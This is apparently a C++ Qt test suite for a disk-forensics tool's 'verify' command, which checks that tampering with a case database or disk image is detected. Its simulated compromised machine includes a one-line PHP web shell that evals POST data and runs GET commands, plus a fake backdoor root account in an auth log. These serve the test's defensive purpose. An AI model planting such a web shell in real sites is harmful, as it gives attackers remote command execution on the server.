// Whatever is changed in a case, verify sees it, and says where. The changes are made from the schema of a real case, so that
// a new table or column is covered without a word here.
#include <QFile>
#include <QProcess>

#include <random>
#include <set>

#include "case/custody.hpp"
#include "case/seal.hpp"
#include "case/writer.hpp"
#include "engine/machine.hpp"
#include "support/test_main.hpp"

using namespace deadbox;

namespace {

constexpr const char* k_verify_program = TRIAL_BIN_DIR "/deadbox";

int ended(const QStringList& arguments, QByteArray& said) {
    QProcess process;
    process.start(k_verify_program, arguments);
    if (!process.waitForFinished(120'000)) return -1;
    said = process.readAllStandardOutput() + process.readAllStandardError();
    return process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1;
}

struct Column {
    std::string name, type;
    bool key = false, required = false;
};
struct Table {
    std::string name;
    bool row_ids = true;
    std::vector<Column> columns;
    std::int64_t count = 0;
};

// Another value of the column's type than the one in the row.
std::string changed(const Column& column) {
    const auto name = "\"" + column.name + "\"";
    if (column.type == "INTEGER") return "coalesce(" + name + ", 0) + 1";
    if (column.type == "REAL") return "coalesce(" + name + ", 0.0) + 1.5";
    if (column.type == "BLOB") return "CAST(coalesce(" + name + ", x'') || x'01' AS BLOB)";
    return "coalesce(" + name + ", '') || '!'";
}
// A row of made-up values.
std::string insert_into(const Table& table);
std::string some(const Column& column) { return column.type == "INTEGER" ? "7654321" : column.type == "REAL" ? "1.5" : column.type == "BLOB" ? "x'aa'" : "'added'"; }

std::string insert_into(const Table& table) {
    std::string columns, values;
    for (const auto& column : table.columns) {
        columns += (columns.empty() ? "\"" : ", \"") + column.name + "\"";
        values += (values.empty() ? "" : ", ") + some(column);
    }
    return "INSERT INTO \"" + table.name + "\"(" + columns + ") VALUES(" + values + ")";
}

}  // namespace

class VerifyTest : public QObject {
    Q_OBJECT

    std::vector<Table> tables(const case_file::Database& database) {
        std::vector<Table> all;
        auto names = database.prepare("SELECT name, sql LIKE '%WITHOUT ROWID%' FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name");
        while (names && *names->step()) {
            Table table{std::string(names->text(0)), names->integer(1) == 0, {}, 0};
            auto columns = database.prepare("SELECT name, type, pk, \"notnull\" FROM pragma_table_info('" + table.name + "')");
            while (columns && *columns->step()) table.columns.push_back({std::string(columns->text(0)), std::string(columns->text(1)), columns->integer(2) > 0, columns->integer(3) != 0});
            auto count = database.prepare("SELECT count(*) FROM \"" + table.name + "\"");
            if (count && *count->step()) table.count = count->integer(0);
            all.push_back(std::move(table));
        }
        return all;
    }

    // What verify says of the case as it is now, on this connection.
    QString verdict(const case_file::Database& database) {
        QStringList all;
        const auto chain = case_file::verify_chain(database);
        if (!chain) return "error";
        if (chain->first_broken) all << "custody row";
        const auto differences = case_file::differences(database);
        if (!differences) return "error: " + QString::fromStdString(differences.error().what);
        for (const auto& one : *differences) all << QString::fromStdString(one);
        return all.join("; ");
    }

    // Does `sql`, asks, and takes it back.
    QString after(const case_file::Database& database, const std::string& sql) {
        (void)database.execute("SAVEPOINT tampering");
        const auto done = database.execute(sql);
        const auto rows = database.changes();
        const auto said = !done ? "not done: " + QString::fromStdString(done.error().what) : rows == 0 ? QString("not done") : verdict(database);
        (void)database.execute("ROLLBACK TO tampering; RELEASE tampering");
        return said;
    }

    static bool names(const QString& said, const Table& table) {
        return said.contains("table " + QString::fromStdString(table.name)) || (table.name == "custody" && said.contains("custody"));
    }

private slots:
    void initTestCase() {
        m_machine.add("/etc/shadow", "root:$6$a$b:19000:0:99999:7:::\nmartina:$6$a$b:19000:0:99999:7:::\n");
        m_machine.add("/etc/group", "root:x:0:\nsudo:x:27:martina\n");
        m_machine.add("/etc/hosts", "127.0.0.1 localhost\n192.0.2.1 trial\n");
        m_machine.add("/etc/apache2/sites-enabled/site.conf", "<VirtualHost *:80>\nServerName trial.example\nDocumentRoot /var/www/site\nCustomLog /var/log/apache2/a.log combined\n</VirtualHost>\n");
        m_machine.add("/var/www/site/index.html", "<html><title>Hacked by nobody</title></html>\n");
        m_machine.add("/var/www/site/up.php", "<?php @eval(base64_decode($_POST['c'])); system($_GET['x']); ?>\n");
        m_machine.add("/var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12.4\n\n");
        m_machine.add("/var/lib/dpkg/info/base-files.list", "/.\n/etc\n/etc/issue\n");
        m_machine.add("/var/lib/dpkg/info/base-files.md5sums", "d41d8cd98f00b204e9800998ecf8427e  etc/issue\n");
        m_machine.add("/var/log/auth.log", "2026-03-02T04:16:40.550102+00:00 trial useradd[2398]: new user: name=backup1, UID=0, GID=0, home=/var/tmp/.b, shell=/bin/bash, from=none\n"
                                           "2026-03-02T04:19:03.770154+00:00 trial sshd[2419]: Accepted password for martina from 203.0.113.77 port 40112 ssh2\n");
        for (int i = 0; i < 4; ++i) m_machine.add("/chain/" + std::to_string(i), std::to_string(i) + "\n");
        m_machine.add("/trial/one", "nothing\n");
        QVERIFY(m_machine.build());
        m_case = m_machine.path("one.deadbox");
        QByteArray said;
        const auto path = QString::fromStdString(m_case), image = QString::fromStdString(m_machine.image());
        QVERIFY2(ended({"analyze", image, "-o", path, "--quiet", "--jobs", "1"}, said) >= 0 && QFile::exists(path), said.constData());
        const auto finding = test::rows(m_case, "SELECT id FROM finding LIMIT 1");
        QVERIFY(!finding.empty());
        QVERIFY2(ended({"mark", path, QString::fromStdString(finding.front()), "--state", "confirmed", "--reason", "seen"}, said) == 0, said.constData());
        QVERIFY2(ended({"note", path, "looked at it"}, said) == 0, said.constData());
        // One that was stopped in every wave and gone on with.
        auto options = m_machine.options("resumed.deadbox");
        for (int runs = 0; !m_resumed; ++runs) {
            engine::Progress progress;
            int asked = 0;
            progress.stop = [&] { return ++asked > 3 + 3 * runs; };
            const auto result = engine::analyze(options, progress);
            QVERIFY2(result, result ? "" : result.error().what.c_str());
            m_resumed = !result->interrupted;
            options.resume = true;
        }
    }

    void an_untouched_case_holds() {
        QByteArray said;
        QVERIFY2(ended({"verify", QString::fromStdString(m_case)}, said) == 0, said.constData());
        QVERIFY2(said.contains("follow from each other") && !said.toLower().contains("authentic"), said.constData());
        QVERIFY2(ended({"verify", QString::fromStdString(m_machine.path("resumed.deadbox"))}, said) == 0, said.constData());
    }

    void every_table_is_guarded_data() {
        QTest::addColumn<QString>("path");
        QTest::newRow("in one go") << QString::fromStdString(m_case);
        QTest::newRow("stopped and resumed") << QString::fromStdString(m_machine.path("resumed.deadbox"));
    }
    void every_table_is_guarded() {
        QFETCH(QString, path);
        const auto copy = path + ".copy";
        QFile::remove(copy);
        QVERIFY(QFile::copy(path, copy));
        const auto database = case_file::Database::open(copy.toStdString(), case_file::Access::write);
        QVERIFY(database);
        QCOMPARE(verdict(*database), QString());
        // The analyst's and the run's seals are written by the commands, which the resumed case has not seen.
        const bool whole = path.toStdString() == m_case;
        std::mt19937 generator(3);
        int changes = 0;
        // What this machine has nothing of gets a row, and the case is sealed anew.
        std::set<std::string> filled;
        for (const auto& table : tables(*database)) {
            if (table.count > 0) continue;
            const auto added = after(*database, insert_into(table));
            QVERIFY2(names(added, table), qPrintable(QString::fromStdString(table.name + ", a first row added: ") + added));
            QVERIFY(database->execute(insert_into(table)));
            filled.insert(table.name);
        }
        QVERIFY(case_file::seal(*database, case_file::SealOf::everything));
        if (whole) QVERIFY(case_file::seal(*database, case_file::SealOf::runs));
        QCOMPARE(verdict(*database), QString());
        for (const auto& table : tables(*database)) {
            if (!whole && table.name == "run") continue;
            const auto quoted = "\"" + table.name + "\"";
            for (std::size_t place = 0; place < table.columns.size() && table.count > 0; ++place) {
                const auto& column = table.columns[place];
                const auto offset = std::to_string(generator() % static_cast<std::uint64_t>(table.count));
                std::string which = table.row_ids ? "rowid = (SELECT rowid FROM " + quoted + " LIMIT 1 OFFSET " + offset + ")" : "";
                if (!table.row_ids) {
                    std::string keys;
                    for (const auto& key : table.columns)
                        if (key.key) keys += (keys.empty() ? "\"" : ", \"") + key.name + "\"";
                    which = "(" + keys + ") = (SELECT " + keys + " FROM " + quoted + " LIMIT 1 OFFSET " + offset + ")";
                }
                // A key that is taken already: far away from all others.
                const auto value = column.key && column.type == "INTEGER" ? std::string("\"") + column.name + "\" + 7654321" : changed(column);
                const auto said = after(*database, "UPDATE " + quoted + " SET \"" + column.name + "\" = " + value + " WHERE " + which);
                QVERIFY2(names(said, table), qPrintable(QString::fromStdString(table.name + "." + column.name + " changed: ") + said));
                ++changes;
                if (place > 0) continue;
                const auto removed = after(*database, "DELETE FROM " + quoted + " WHERE " + which);
                QVERIFY2(names(removed, table), qPrintable(QString::fromStdString(table.name + ", a row removed: ") + removed));
            }
            const auto added = after(*database, filled.contains(table.name) ? "DELETE FROM " + quoted : insert_into(table));
            QVERIFY2(names(added, table), qPrintable(QString::fromStdString(table.name + ", a row added: ") + added));
        }
        qInfo("%d columns changed; %d tables of this case had no rows of its own", changes, static_cast<int>(filled.size()));
        QVERIFY(changes > 400);
    }

    void what_reads_the_tables_is_guarded_data() {
        QTest::addColumn<QString>("sql");
        QTest::newRow("a view that hides") << "DROP VIEW file; CREATE VIEW file AS SELECT 1 AS path; UPDATE meta SET value = value";
        QTest::newRow("a trigger") << "CREATE TRIGGER t AFTER INSERT ON note BEGIN DELETE FROM finding; END; UPDATE meta SET value = value";
        QTest::newRow("a table more") << "CREATE TABLE more(a INTEGER) STRICT; UPDATE meta SET value = value";
        QTest::newRow("a table less") << "DROP TABLE story; UPDATE meta SET value = value";
    }
    void what_reads_the_tables_is_guarded() {
        QFETCH(QString, sql);
        const auto database = open_copy();
        QVERIFY(database);
        QVERIFY2(after(*database, sql.toStdString()).contains("table"), qPrintable(after(*database, sql.toStdString())));
    }

    void the_batch_is_named_data() {
        QTest::addColumn<QString>("table");
        for (const char* table : {"inode", "name", "event", "account", "content"}) QTest::newRow(table) << table;
    }
    void the_batch_is_named() {
        QFETCH(QString, table);
        const auto database = open_copy();
        QVERIFY(database);
        const std::string sql = table == "inode"     ? "UPDATE inode SET size = size + 1 WHERE id = (SELECT max(id) FROM inode)"
                                : table == "name"    ? "UPDATE name SET allocated = 1 - allocated WHERE name = 'auth.log'"
                                : table == "content" ? "UPDATE content SET sha256 = x'00' WHERE inode = (SELECT max(inode) FROM content WHERE sha256 IS NOT NULL)"
                                : table == "event"   ? "UPDATE event SET s = s + 1 WHERE id = 1"
                                                     : "UPDATE account SET uid = 4 WHERE id = 1";
        const auto said = after(*database, sql);
        const QRegularExpression batch("table " + table + ", batch \\d+ \\(wave [a-z.]+, unit [^)]+\\)");
        QVERIFY2(said.contains(batch), qPrintable(said));
    }

    // Custody rows cut off at the end, taken out, put in another order.
    void the_chain_is_guarded() {
        const auto database = open_copy();
        QVERIFY(database);
        const auto count = std::stoll(test::rows(m_case, "SELECT count(*) FROM custody").front());
        for (std::int64_t kept = 0; kept < count; ++kept) {
            const auto said = after(*database, "DELETE FROM custody WHERE id > " + std::to_string(kept));
            QVERIFY2(!said.isEmpty() && !said.startsWith("error"), qPrintable(QString::number(kept) + " of " + QString::number(count) + " rows kept: " + said));
        }
        for (std::int64_t row = 1; row < count; ++row) {
            const auto a = std::to_string(row), b = std::to_string(row + 1);
            QVERIFY2(after(*database, "UPDATE custody SET id = -1 WHERE id = " + a + "; UPDATE custody SET id = " + a + " WHERE id = " + b + "; UPDATE custody SET id = " + b + " WHERE id = -1").contains("custody row"),
                     a.c_str());
            QVERIFY2(after(*database, "DELETE FROM custody WHERE id = " + a).contains("custody row"), a.c_str());
        }
    }

    // A case whose further run was not finished, or of which an entry says so: no seal covers it, and verify says what it cannot
    // tell; what a batch wrote, and what no analysis touches, is held against what was said before.
    void an_unfinished_run_is_said_and_guarded_data() {
        QTest::addColumn<QString>("change");
        QTest::addColumn<QString>("names");
        QTest::newRow("nothing") << "" << "";
        QTest::newRow("a finding") << "UPDATE finding SET severity = 0" << "";  // not checkable, and named as that
        QTest::newRow("a mark") << "UPDATE mark SET state = 'dismissed'" << "table mark";
        QTest::newRow("a mark more") << "INSERT INTO mark(finding, at, by, state) SELECT id, '', '', 'dismissed' FROM finding" << "table mark";
        QTest::newRow("a note less") << "DELETE FROM note" << "table note";
        QTest::newRow("an event") << "UPDATE event SET s = s + 1 WHERE id = 1" << "table event";
        QTest::newRow("an event more") << "INSERT INTO event SELECT id + 100000, s, ns, kind, inode, offset, line, user, address, process, arguments, precision, assumptions FROM event" << "table event";
        QTest::newRow("an event with its batch") << "UPDATE event SET s = s + 1 WHERE id = 1; UPDATE batch_rows SET digest = x'00' WHERE name = 'event'" << "table batch";
        QTest::newRow("a batch less") << "DELETE FROM batch WHERE wave = 'configure'" << "is gone";
        QTest::newRow("inodes less") << "DELETE FROM inode WHERE batch = (SELECT max(batch) FROM inode)" << "table inode";
        QTest::newRow("an account") << "UPDATE account SET uid = 4 WHERE id = 1" << "table account";
    }
    void an_unfinished_run_is_said_and_guarded() {
        QFETCH(QString, change);
        QFETCH(QString, names);
        const auto copy = m_machine.path("unfinished.deadbox");
        QFile::remove(QString::fromStdString(copy));
        QVERIFY(QFile::copy(QString::fromStdString(m_case), QString::fromStdString(copy)));
        auto options = m_machine.options("unfinished.deadbox");
        options.resume = true;
        engine::Progress progress;
        progress.stop = [&] { return progress.state.wave == "detect"; };
        const auto stopped = engine::analyze(options, progress);
        QVERIFY2(stopped && stopped->interrupted, stopped ? "not stopped" : stopped.error().what.c_str());
        {
            const auto database = case_file::Database::open(copy, case_file::Access::write);
            QVERIFY(database && (change.isEmpty() || database->execute(change.toStdString())));
        }
        QByteArray said;
        const int status = ended({"verify", QString::fromStdString(copy), "--quick"}, said);
        QVERIFY2(!said.contains("every table is as it was"), said.constData());
        QVERIFY2(said.contains("the analysis was not finished: only its batches were compared") && said.contains(" finding,") && said.contains("merely said to be"), said.constData());
        QVERIFY2((status == 5) == !names.isEmpty() && said.contains(names.toUtf8()), said.constData());
    }
    // The entry alone, without a run of it in the case.
    void a_run_that_is_merely_said_to_be_begun() {
        const auto database = open_copy();
        QVERIFY(database);
        QVERIFY(case_file::append_custody(*database, "somebody", "analysis.interrupted", "{}"));
        QVERIFY(case_file::unsealed_tables(*database)->empty());
        QVERIFY2(after(*database, "UPDATE finding SET severity = 0").contains("table finding"), "an entry that ends a run lifts no seal");
        QVERIFY(case_file::append_custody(*database, "somebody", "analysis.resumed", "{}"));
        QVERIFY2(verdict(*database).contains("custody: it tells of 2 runs, and the case has 1"), qPrintable(verdict(*database)));
    }

    // Who cuts the tail off together with what it tells of leaves a consistent chain; a head that was written down shows it.
    void an_anchor_finds_what_the_chain_cannot() {
        const auto copy = QString::fromStdString(m_machine.path("anchor.deadbox"));
        QFile::remove(copy);
        QVERIFY(QFile::copy(QString::fromStdString(m_case), copy));
        const auto head = QString::fromStdString(test::rows(m_case, "SELECT lower(hex(hash)) FROM custody ORDER BY id DESC LIMIT 1").front());
        QByteArray said;
        QCOMPARE(ended({"verify", copy, "--quick", "--anchor", head}, said), 0);
        QVERIFY2(said.contains("the chain up to there is what it was then"), said.constData());
        QProcess sqlite;
        sqlite.start("sqlite3", {copy, "DELETE FROM custody WHERE id > (SELECT max(id) FROM custody WHERE action = 'seal.run'); DELETE FROM mark; DELETE FROM note"});
        QVERIFY(sqlite.waitForFinished() && sqlite.exitCode() == 0);
        QVERIFY2(ended({"verify", copy, "--quick"}, said) == 0 && said.contains("follow from each other") && !said.toLower().contains("authentic"), said.constData());
        QVERIFY(ended({"verify", copy, "--quick", "--anchor", head}, said) != 0);
        QVERIFY2(said.contains("rows were cut off"), said.constData());
    }

    void bytes_of_the_image_data() {
        QTest::addColumn<QString>("format");
        QTest::newRow("raw") << "raw";
        QTest::newRow("ewf") << "ewf";
    }
    void bytes_of_the_image() {
        QFETCH(QString, format);
        auto image = QString::fromStdString(m_machine.image());
        if (format == "ewf") {
            QProcess acquire;
            acquire.start("ewfacquire", {"-u", "-q", "-t", QString::fromStdString(m_machine.path("disk")), "-f", "encase6", "-c", "deflate:fast", "-S", "1GiB", image});
            QVERIFY(acquire.waitForFinished(60'000));
            QVERIFY2(acquire.exitCode() == 0, acquire.readAllStandardError().constData());
            image = QString::fromStdString(m_machine.path("disk.E01"));
        }
        const auto path = QString::fromStdString(m_machine.path(("bytes-" + format + ".deadbox").toStdString()));
        QByteArray said;
        QVERIFY2(ended({"analyze", image, "-o", path, "--quiet"}, said) >= 0 && ended({"verify", path}, said) == 0, said.constData());
        std::mt19937 generator(7);
        QFile file(image);
        const auto size = file.size();
        for (int round = 0; round < 12; ++round) {
            const auto at = round == 0 ? 0 : round == 1 ? size - 1 : static_cast<qint64>(generator() % static_cast<std::uint64_t>(size));
            const auto flip = [&] {
                if (!file.open(QIODevice::ReadWrite)) return false;
                file.seek(at);
                char byte = 0;
                file.getChar(&byte);
                file.seek(at);
                file.putChar(static_cast<char>(byte ^ 0x10));
                file.close();
                return true;
            };
            QVERIFY(flip());
            const int status = ended({"verify", path}, said);
            QVERIFY(flip());
            QVERIFY2(status != 0 && said.contains("does not hold") && said.contains(image.section('/', -1).toLocal8Bit()), (QByteArray::number(at) + ": " + said).constData());
        }
        QCOMPARE(ended({"verify", path}, said), 0);
    }

private:
    base::Result<case_file::Database> open_copy() {
        const auto copy = m_machine.path("copy.deadbox");
        QFile::remove(QString::fromStdString(copy));
        QFile::copy(QString::fromStdString(m_case), QString::fromStdString(copy));
        return case_file::Database::open(copy, case_file::Access::write);
    }
    test::Machine m_machine;
    std::string m_case;
    bool m_resumed = false;
};
DEADBOX_TEST(VerifyTest)
#include "verify_test.moc"
